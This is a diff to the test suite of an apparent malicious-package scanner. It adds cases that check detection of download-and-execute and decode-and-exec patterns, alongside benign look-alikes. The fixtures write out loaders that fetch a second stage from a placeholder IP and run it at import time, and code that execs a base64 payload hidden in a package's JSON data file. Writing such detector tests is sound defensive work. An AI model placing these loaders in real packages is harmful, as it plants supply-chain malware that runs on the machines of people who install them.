@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import json
 import tarfile
 import zipfile
 from collections.abc import Callable
@@ -480,6 +481,77 @@ def test_download_exec_fires(tmp_path: Path, scanner: Scanner) -> None:
 def test_download_exec_benign(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/fetch.py": DOWNLOAD_LIBRARY}), scanner)
     assert_quiet(result, "download-exec")
+
+
+@pytest.mark.parametrize(
+    ("suffix", "load"),
+    [
+        (".so", "ctypes.CDLL(target)"),
+        (
+            ".py",
+            "spec = importlib.util.spec_from_file_location('_stage', target)\n"
+            "spec.loader.exec_module(importlib.util.module_from_spec(spec))",
+        ),
+        (".py", "runpy.run_path(target)"),
+    ],
+    ids=["native-library", "module-from-file", "run-path"],
+)
+def test_download_exec_fires_for_a_download_saved_then_loaded(
+    tmp_path: Path, scanner: Scanner, suffix: str, load: str
+) -> None:
+    # a second stage fetched, written where the loader finds it, and loaded at import
+    module = (
+        "import ctypes, importlib.util, os, runpy, tempfile, urllib.request\n"
+        f"target = os.path.join(tempfile.gettempdir(), '_stage{suffix}')\n"
+        "with open(target, 'wb') as handle:\n"
+        "    handle.write(urllib.request.urlopen('http://192.0.2.144/s').read())\n"
+        f"{load}\n"
+    )
+    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+def test_a_library_built_then_loaded_when_called_is_no_download_exec(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    # a JIT: source generated, compiled to a shared object and loaded, all when called
+    module = (
+        "import ctypes, os, subprocess, tempfile\n\n\ndef compile_kernel(code):\n"
+        "    folder = tempfile.mkdtemp()\n    source = os.path.join(folder, 'k.c')\n"
+        "    with open(source, 'w') as handle:\n        handle.write(code)\n"
+        "    library = os.path.join(folder, 'k.so')\n"
+        "    subprocess.run(['cc', '-shared', '-o', library, source], check=True)\n"
+        "    return ctypes.CDLL(library)\n"
+    )
+    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
+    assert_quiet(result, "download-exec", not_verdict=Verdict.SUSPICIOUS)
+
+
+_KEPT_IN_DATA = (
+    "import base64, json\nfrom importlib.resources import files\n\n"
+    "_TABLE = json.loads(files(__package__).joinpath('data/table.json').read_text())\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("run", "fires"),
+    [
+        ("exec(base64.b64decode(_TABLE['collation']))\n", True),
+        ("def load():\n    exec(base64.b64decode(_TABLE['collation']))\n", False),
+    ],
+    ids=["at-import", "when-called"],
+)
+def test_decode_exec_fires_for_code_kept_encoded_in_a_data_file(
+    tmp_path: Path, scanner: Scanner, run: str, fires: bool
+) -> None:
+    # the payload sits in a JSON file of the package; the module decodes and runs it
+    table = json.dumps({"collation": base64.b64encode(_STAGE.encode()).decode()})
+    files = {INIT: _KEPT_IN_DATA + run, f"{DEFAULT_NAME}/data/table.json": table}
+    result = scan(write_sdist(tmp_path, files), scanner)
+    if fires:
+        assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+    else:  # a plugin loader run when asked: reported, not decisive
+        assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS)
 
 
 SHADOWED_NAME_AT_IMPORT = """import types
